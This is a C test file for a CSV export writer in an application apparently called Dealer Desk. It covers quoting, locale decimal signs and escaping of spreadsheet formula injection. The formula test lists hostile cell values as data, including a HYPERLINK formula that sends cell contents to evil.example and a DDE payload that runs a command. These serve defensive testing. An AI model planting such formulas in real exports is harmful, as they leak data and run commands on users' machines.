/* SPDX-FileCopyrightText: 2026 The Dealer Desk developers
 * SPDX-License-Identifier: GPL-3.0-or-later */

#define G_LOG_DOMAIN "test-csv"

#include "config.h"

#include "desk-csv-writer.h"
#include "desk-csv.h"
#include "desk-format.h"
#include "desk-locale.h"

#include <string.h>

#define BYTE_ORDER_MARK "\xef\xbb\xbf"

static char *
end (DeskCsvWriter *csv)
{
  g_autoptr (GBytes) bytes = desk_csv_writer_take (csv);
  gsize length = 0;
  const char *data = g_bytes_get_data (bytes, &length);

  g_assert_cmpmem (data, strlen (BYTE_ORDER_MARK), BYTE_ORDER_MARK, strlen (BYTE_ORDER_MARK));
  return g_strndup (data + strlen (BYTE_ORDER_MARK), length - strlen (BYTE_ORDER_MARK));
}

static void
test_rows (void)
{
  g_autoptr (DeskCsvWriter) english = desk_csv_writer_new ('.');
  g_autoptr (DeskCsvWriter) french = desk_csv_writer_new (',');
  DeskCsvWriter *both[] = { english, french };
  g_autofree char *in_english = NULL;
  g_autofree char *in_french = NULL;

  for (guint i = 0; i < G_N_ELEMENTS (both); i++)
    {
      desk_csv_writer_add_text (both[i], "Société");
      desk_csv_writer_add_text (both[i], "Total");
      desk_csv_writer_end_row (both[i]);
      desk_csv_writer_add_text (both[i], "Textura, \"Rosso\"; S.r.l.\r\nMilano");
      desk_csv_writer_add_number (both[i], 241056, 2);
      desk_csv_writer_add_number (both[i], -5, 2);
      desk_csv_writer_add_number (both[i], 4, 0);
      desk_csv_writer_add_text (both[i], NULL);
      desk_csv_writer_end_row (both[i]);
    }
  in_english = end (english);
  in_french = end (french);
  g_assert_cmpstr (in_english, ==,
                   "\"Société\",\"Total\"\r\n"
                   "\"Textura, \"\"Rosso\"\"; S.r.l.\r\nMilano\",2410.56,-0.05,4,\"\"\r\n");
  g_assert_cmpstr (in_french, ==,
                   "\"Société\";\"Total\"\r\n"
                   "\"Textura, \"\"Rosso\"\"; S.r.l.\r\nMilano\";2410,56;-0,05;4;\"\"\r\n");
}

static void
test_numbers (void)
{
  g_autoptr (DeskCsvWriter) csv = desk_csv_writer_new ('.');
  g_autofree char *text = NULL;

  desk_csv_writer_add_number (csv, 0, 0);
  desk_csv_writer_add_number (csv, 0, 2);
  desk_csv_writer_add_number (csv, G_MAXINT64, 3);
  desk_csv_writer_add_number (csv, G_MININT64, 0);
  desk_csv_writer_add_number (csv, 1, 18);
  desk_csv_writer_end_row (csv);
  text = end (csv);
  g_assert_cmpstr (text, ==,
                   "0,0.00,9223372036854775.807,-9223372036854775808,0.000000000000000001\r\n");
}

/* What a customer may be called, and what a spreadsheet would make of it. */
static void
test_formulas (void)
{
  static const char *const harmful[] = {
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")",
    "=cmd|' /C calc'!A0",
    "+33 3 20 00 00 00",
    "-1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\xc2\xa0=1+1",
    "\xe2\x80\x8b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
  };
  static const char *const harmless[] = { "", "Posterhuis NV", "1+1=2", "ann@reseller.example", "'=1+1", "サイン", "<b>&" };

  for (guint i = 0; i < G_N_ELEMENTS (harmful) + G_N_ELEMENTS (harmless); i++)
    {
      gboolean is_harmful = i < G_N_ELEMENTS (harmful);
      const char *cell = is_harmful ? harmful[i] : harmless[i - G_N_ELEMENTS (harmful)];
      g_autoptr (DeskCsvWriter) csv = desk_csv_writer_new ('.');
      g_autoptr (GPtrArray) rows = NULL;
      g_autoptr (GError) error = NULL;
      g_autofree char *expected = g_strconcat (is_harmful ? "'" : "", cell, NULL);
      g_autofree char *text = NULL;

      desk_csv_writer_add_text (csv, "first");
      desk_csv_writer_add_text (csv, cell);
      desk_csv_writer_end_row (csv);
      text = end (csv);
      rows = desk_csv_parse (text, &error);
      g_assert_no_error (error);
      g_assert_cmpuint (rows->len, ==, 1);
      g_assert_cmpstr (desk_csv_row_get (rows->pdata[0], 1), ==, g_strstrip (expected));
    }
}

static void
test_decimal_sign (void)
{
  desk_locale_override ("fr");
  g_assert_cmpint (desk_format_decimal_sign (), ==, ',');
  desk_locale_override ("en");
  g_assert_cmpint (desk_format_decimal_sign (), ==, '.');
  desk_locale_override ("ja");
  g_assert_cmpint (desk_format_decimal_sign (), ==, '.');
  desk_locale_override (NULL);
}

int
main (int argc, char *argv[])
{
  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);

  g_test_add_func ("/csv/rows", test_rows);
  g_test_add_func ("/csv/numbers", test_numbers);
  g_test_add_func ("/csv/formulas", test_formulas);
  g_test_add_func ("/csv/decimal-sign", test_decimal_sign);

  return g_test_run ();
}
